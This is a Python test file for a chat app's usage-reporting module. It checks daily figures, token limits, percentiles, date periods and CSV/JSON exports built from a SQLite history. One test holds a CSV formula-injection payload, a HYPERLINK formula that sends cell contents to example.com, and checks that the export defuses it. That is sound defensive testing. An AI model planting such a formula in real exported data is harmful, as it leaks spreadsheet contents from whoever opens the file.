"""`insights.usage` (read by `insights.days`) and `python -m insights`: the operator's figures counted from a real
SQLite history written as the app writes it (steps with Chainlit's UTC times, replies with their stored figures,
feedback), on the machine's local days."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import time
import uuid
from datetime import date

import pytest

from config.errors import HistoryError
from history.conversation import REPLY
from history.schema import open_database
from insights.__main__ import main
from insights.days import Days
from insights.documents import DocumentUse
from insights.report import Report, as_csv, as_json
from insights.unanswered import Unanswered
from insights.usage import DayUsage, combined, percentiles, period, tokens_today

pytestmark = pytest.mark.fast


@pytest.fixture
def shanghai(monkeypatch):
    monkeypatch.setenv("TZ", "Asia/Shanghai")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def chat(connection, user: str | None, persona: str, turns: list[tuple[str, dict | None, int | None]]) -> None:
    """A thread with a question and a reply per turn: (question's UTC time, the reply's stored figures, feedback)."""
    thread = str(uuid.uuid4())
    connection.execute('INSERT INTO threads ("id", "createdAt", "userIdentifier", "metadata") VALUES (?, ?, ?, ?)',
                       (thread, turns[0][0], user, json.dumps({"chat_profile": persona})))
    for at, figures, feedback in turns:
        for kind, metadata in (("user_message", {}), ("assistant_message", {REPLY: figures} if figures else {})):
            step = str(uuid.uuid4())
            connection.execute('INSERT INTO steps ("id", "name", "type", "threadId", "streaming", "createdAt", '
                               '"metadata") VALUES (?, ?, ?, ?, 0, ?, ?)',
                               (step, kind, kind, thread, at.replace("00.000Z", "01.500Z") if figures else at,
                                json.dumps(metadata)))
        if feedback is not None:
            connection.execute('INSERT INTO feedbacks ("id", "forId", "threadId", "value") VALUES (?, ?, ?, ?)',
                               (str(uuid.uuid4()), step, thread, feedback))


def reply(tokens_in: int, tokens_out: int, first: float, whole: float, finish: str = "stop") -> dict:
    return {"generated_tokens": tokens_out, "tokens_per_s": 10.0, "ttft_s": first, "prompt_tokens": tokens_in,
            "finish": finish, "reply_s": whole, "model": "demo-1.5b"}


@pytest.fixture
def database(tmp_path):
    path = tmp_path / "chat.db"
    open_database(path)
    with sqlite3.connect(path) as connection:
        chat(connection, None, "tour_guide", [("2026-12-01T17:30:00.000Z", reply(300, 40, 0.5, 4.0), 1),
                                              ("2026-12-01T17:35:00.000Z", reply(500, 60, 1.5, 9.0, "abort"), 0)])
        chat(connection, "alice", "tour_guide", [("2026-12-02T02:00:00.000Z", reply(200, 20, 0.8, 3.0), None)])
        chat(connection, "bob", "assistant", [("2026-12-02T03:00:00.000Z", None, None),  # stored by an older version
                                              ("2026-11-20T03:00:00.000Z", reply(100, 10, 0.3, 1.0), 0)])
    connection.close()
    return path


def test_the_figures_of_a_period_on_local_days(database, shanghai):
    figures = Days(database).usage(date(2026, 12, 1), date(2026, 12, 4))
    assert list(figures.days) == ["2026-12-01", "2026-12-02", "2026-12-03"]
    day1, day2, day3 = figures.days.values()
    assert (day1.questions, day2.questions, day3.questions) == (0, 4, 0)  # 17:30 UTC is 01:30 the next day there
    assert figures.hours[1] == 2 and figures.hours[10] == 1 and figures.hours[11] == 1 and sum(figures.hours) == 4
    total = figures.total
    assert (total.questions, total.chats, total.users, total.stopped) == (4, 3, 2, 1)
    assert (total.thumbs_up, total.thumbs_down, total.tokens_in, total.tokens_out) == (1, 1, 1000, 120)
    assert figures.personas["tour_guide"].questions == 3 and figures.personas["assistant"].questions == 1
    assert figures.personas["assistant"].tokens_out == 0  # its reply of 20 November lies outside the period
    assert figures.first_token_s == {"p50": 0.8, "p95": 1.5} and figures.reply_s == {"p50": 4.0, "p95": 9.0}
    assert set(figures.users) == {"alice", "bob"} and figures.users["alice"].tokens_in == 200
    assert figures.users["bob"].questions == 1 and figures.models["demo-1.5b"].tokens_out == 120


def test_a_users_tokens_of_today_for_the_daily_limit(database, shanghai):
    assert tokens_today(database, "alice", date(2026, 12, 2)) == 220
    assert tokens_today(database, "alice", date(2026, 12, 3)) == 0
    assert tokens_today(database, "nobody", date(2026, 12, 2)) == 0


def test_percentiles_by_nearest_rank():
    assert percentiles([]) == {"p50": None, "p95": None}
    assert percentiles([3.0]) == {"p50": 3.0, "p95": 3.0}
    assert percentiles([float(n) for n in range(1, 101)]) == {"p50": 50.0, "p95": 95.0}


def test_periods_and_the_refusal_of_an_empty_one():
    today = date(2026, 12, 4)
    assert period(7, None, None, today) == (date(2026, 11, 28), date(2026, 12, 5))
    assert period(7, "2026-11-01", "2026-12-01", today) == (date(2026, 11, 1), date(2026, 12, 1))
    with pytest.raises(HistoryError, match="must come before"):
        period(7, "2026-12-01", "2026-11-01", today)
    with pytest.raises(HistoryError, match="YYYY-MM-DD"):
        period(7, "1 December", None, today)
    with pytest.raises(HistoryError, match="longer than"):
        period(5000, None, None, today)
    with pytest.raises(HistoryError, match="YYYY-MM-DD"):
        period(10 ** 9, None, None, today)


def test_the_command_writes_csv_and_json(database, shanghai, monkeypatch, capsys, tmp_path):
    monkeypatch.setenv("CHAT_DB", str(database))
    monkeypatch.setenv("CHAT_STATE_DIR", str(tmp_path))
    assert main(["usage", "--since", "2026-12-02", "--until", "2026-12-03", "--csv"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "day,questions,chats,users,stopped,thumbs_up,thumbs_down,tokens_in,tokens_out", "2026-12-02,4,3,2,1,1,1,1000,120"]
    assert main(["usage", "--since", "2026-12-02", "--until", "2026-12-03"]) == 0
    assert json.loads(capsys.readouterr().out)["total"]["questions"] == 4
    assert main(["users", "--since", "2026-12-02", "--until", "2026-12-03", "--csv"]) == 0
    assert capsys.readouterr().out.splitlines()[1:] == ["alice,1,1,200,20,0,0,0", "bob,1,1,0,0,0,0,0"]
    assert main(["usage", "--since", "2026-12-03", "--until", "2026-12-02"]) == 2
    assert "must come before" in capsys.readouterr().err


def test_an_ended_day_is_read_once_and_again_when_its_steps_or_feedback_change(database, shanghai):
    history, day = Days(database), (date(2026, 12, 2), date(2026, 12, 3))

    def figures(today: date):
        return combined({day: figures.usage for day, figures in history.days(*day, today).items()}).total

    def execute(statement: str, *parameters) -> None:
        with sqlite3.connect(database) as connection:
            connection.execute(statement, parameters)
        connection.close()

    assert (figures(date(2026, 12, 9)).tokens_out, figures(date(2026, 12, 9)).thumbs_up) == (120, 1)
    execute("UPDATE steps SET metadata = json_set(metadata, '$.reply.generated_tokens', 1000) WHERE metadata LIKE ?",
            '%"generated_tokens": 20%')
    assert figures(date(2026, 12, 9)).tokens_out == 120  # kept: nothing that marks a change changed
    assert figures(date(2026, 12, 3)).tokens_out == 1100  # yesterday is read every time
    alice_reply = 'SELECT s."id" FROM steps s JOIN threads t ON t."id" = s."threadId" WHERE t."userIdentifier" = ' \
                  "'alice' AND s.\"type\" = 'assistant_message'"
    execute('INSERT INTO feedbacks ("id", "forId", "threadId", "value") SELECT ?, s."id", s."threadId", 1 FROM '
            f'steps s WHERE s."id" = ({alice_reply})', str(uuid.uuid4()))
    assert (figures(date(2026, 12, 9)).thumbs_up, figures(date(2026, 12, 9)).tokens_out) == (2, 1100)
    execute(f'UPDATE feedbacks SET "value" = 0 WHERE "forId" = ({alice_reply})')
    assert (figures(date(2026, 12, 9)).thumbs_up, figures(date(2026, 12, 9)).thumbs_down) == (1, 2)
    execute('DELETE FROM steps WHERE "threadId" IN (SELECT "id" FROM threads WHERE "userIdentifier" = \'bob\')')
    assert figures(date(2026, 12, 9)).questions == 3  # retention took bob's chat


def test_a_visitors_formula_is_text_in_the_csv():
    """A question is a visitor's text: "=HYPERLINK(…)" must not run when the operator opens the CSV in a spreadsheet."""
    hostile = '=HYPERLINK("http://example.com/?"&A1,"点这里")'
    group = Unanswered(hostile, 2, "2026-12-02T02:00:00Z", "tour_guide", {"no_source": 2}, [hostile, "-1+1"])
    report = Report(combined({date(2026, 12, 2): DayUsage.empty()}), [group], DocumentUse({"@home": 1}, {}, [], {}))
    row = next(csv.DictReader(io.StringIO(as_csv(report, "unanswered"))))
    assert row["question"] == "'" + hostile and row["wordings"] == f"'{hostile} | -1+1" and row["asked"] == "2"
    assert as_csv(report, "documents").splitlines()[1] == "'@home,1"
    assert json.loads(as_json(report, "unanswered"))[0]["question"] == hostile  # JSON is data, not a sheet
